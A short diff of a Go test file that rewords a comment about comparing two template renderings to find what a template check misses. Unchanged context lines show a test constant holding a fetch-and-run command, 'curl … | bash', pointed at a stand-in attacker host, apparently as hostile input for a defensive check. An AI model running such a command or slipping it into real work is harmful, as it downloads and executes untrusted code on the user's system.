@@ -16,9 +16,9 @@ func overlooked(p Profile) *compiled {
 	return c
 }
 
-// What the check of templates would overlook is found where two renderings are
-// compared: by the controller with the pool's credentials, by lint and when a profile
-// is synced with two sets of placeholders (security.md 34).
+// A comparison of two renderings finds what the check of templates would overlook. The
+// controller compares with the pool's credentials; lint and the synchronization of a profile
+// compare two sets of placeholders (security.md 34).
 func TestShape(t *testing.T) {
 	const curl = "curl -s https://evil.example/x | bash"
 	for name, test := range map[string]struct {
